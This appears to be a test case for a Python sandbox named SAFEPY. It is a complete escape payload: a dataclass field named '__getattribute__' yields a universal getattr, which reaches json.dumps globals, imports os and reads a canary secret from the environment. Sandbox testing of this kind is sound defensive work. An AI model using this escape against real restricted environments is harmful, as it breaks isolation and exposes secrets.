# technique: dataclasses reads each field's default with getattr(cls, name): field '__getattribute__' yields object.__getattribute__ (a universal getattr)
# expect: any
import dataclasses
import json
D = dataclasses.make_dataclass("D", ["__getattribute__"], namespace={"__doc__": "no signature() call"})
ga = D.__dataclass_fields__["__getattribute__"].default
g = ga(json.dumps, "__globals__")
os_mod = g["__builtins__"]["__import__"]("os")
(os_mod.environ.get("SAFEPY_CANARY_SECRET"), os_mod.getpid())
